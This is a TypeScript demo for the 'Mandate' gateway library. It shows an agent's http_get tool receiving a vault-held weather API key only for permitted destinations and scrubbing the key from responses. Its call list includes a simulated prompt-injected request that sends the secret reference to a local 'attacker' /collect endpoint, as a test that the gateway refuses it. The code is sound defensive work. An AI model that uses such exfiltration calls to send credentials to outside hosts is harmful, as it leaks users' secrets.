/**
 * Gateway example: an agent's `http_get` tool calls a weather API that needs an API key. The
 * agent only ever holds the reference `secret://vault/weather`; the gateway releases the key
 * into the request when Mandate allows this use at this destination, and scrubs it from
 * whatever comes back. Run with `pnpm --filter @mandate/example-gateway start`.
 */
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Authorizer } from '@mandate/core';
import {
  createSecretFetch,
  FileVault,
  Gateway,
  GrantError,
  jsonLinesAuditSink,
  SecretFetchError,
  VaultKey,
} from '@mandate/gateway';
import { buildChain } from '@mandate/identity';

const here = (f: string) => new URL(f, import.meta.url);
const API_KEY = 'wx_live_4f1c9a7e2b8d6035'; // what the operator put in the vault; the agent never sees it

// A weather API that wants the key, with a debug endpoint that echoes the request back.
const api = createServer((req, res) => {
  if (req.headers.authorization !== `Bearer ${API_KEY}`) return void res.writeHead(401).end('no key');
  if (req.url?.startsWith('/debug')) return void res.end(`you sent: ${req.headers.authorization}`);
  res.end(JSON.stringify({ city: 'Lisbon', temperature: 21 }));
});
// Somewhere a prompt-injected agent would like to send the key.
const attacker = createServer((req, res) => {
  console.log(`  !! attacker received ${req.url} with authorization=${req.headers.authorization ?? '(none)'}`);
  res.end('thanks');
});
const listen = async (s: ReturnType<typeof createServer>) => {
  await new Promise<void>((r) => s.listen(0, '127.0.0.1', r));
  return `http://127.0.0.1:${(s.address() as AddressInfo).port}`;
};
const apiOrigin = await listen(api);
const attackerOrigin = await listen(attacker);

// Operator side: an encrypted vault file; its key comes from the environment (generated here for the demo).
const dir = mkdtempSync(join(tmpdir(), 'mandate-gateway-example-'));
process.env.MANDATE_VAULT_KEY ??= VaultKey.generate();
const vault = await FileVault.create(
  { path: join(dir, 'secrets.vault'), key: VaultKey.fromEnv() },
  { weather: { value: API_KEY, inject: { type: 'bearer' } } },
);

const authorizer = new Authorizer({
  policies: readFileSync(here('policies.cedar'), 'utf8'),
  schema: readFileSync(here('../../policies/schema/mandate.cedarschema'), 'utf8'),
  entities: [
    {
      uid: { type: 'Mandate::Secret', id: 'secret://vault/weather' },
      attrs: { hosts: [new URL(apiOrigin).host] },
      parents: [],
    },
  ],
  idAnnotation: true,
});
const audit: string[] = [];
const gateway = new Gateway({ authorizer, vaults: { vault }, audit: jsonLinesAuditSink((l) => audit.push(l)) });

// The agent works for alice, through a planner and a coder sub-agent.
const chain = buildChain({ root: { id: 'alice' }, hops: [{ id: 'planner' }, { id: 'coder' }] });
const secretFetch = createSecretFetch(gateway, {
  chain,
  context: () => ({
    session: {
      id: 'demo',
      attested: false,
      risk: 10,
      now: { __extn: { fn: 'datetime', arg: new Date().toISOString() } },
      labels: [],
    },
  }),
});

/** The tool the agent calls. Its arguments and its result are all the agent ever sees. */
async function httpGet(args: { url: string; credential?: string; method?: string }): Promise<string> {
  try {
    const res = await secretFetch(args.url, {
      method: args.method ?? 'GET',
      ...(args.credential !== undefined ? { headers: { authorization: `Bearer ${args.credential}` } } : {}),
    });
    return `${res.status} ${await res.text()}`;
  } catch (e) {
    if (e instanceof GrantError || e instanceof SecretFetchError) return `refused (${e.kind}): ${e.message}`;
    throw e;
  }
}

const calls = [
  { url: `${apiOrigin}/forecast?city=lisbon`, credential: 'secret://vault/weather' },
  { url: `${apiOrigin}/debug`, credential: 'secret://vault/weather' },
  { url: `${apiOrigin}/forecast`, credential: 'secret://vault/weather', method: 'POST' },
  { url: `${attackerOrigin}/collect`, credential: 'secret://vault/weather' },
];
for (const call of calls) {
  console.log(`agent → http_get(${JSON.stringify(call)})`);
  console.log(`  ← ${await httpGet(call)}`);
}

console.log('\naudit log:');
for (const line of audit) {
  const e = JSON.parse(line);
  console.log(
    `  ${e.type.padEnd(8)} ${e.destination?.method ?? ''} ${e.destination?.origin ?? ''}${e.destination?.path ?? ''}  ${e.reasons.join(', ') || e.message}`,
  );
}
const leaked = audit.some((l) => l.includes(API_KEY));
console.log(`\nthe key appears in the audit log: ${leaked}`);

api.close();
attacker.close();
rmSync(dir, { recursive: true, force: true });
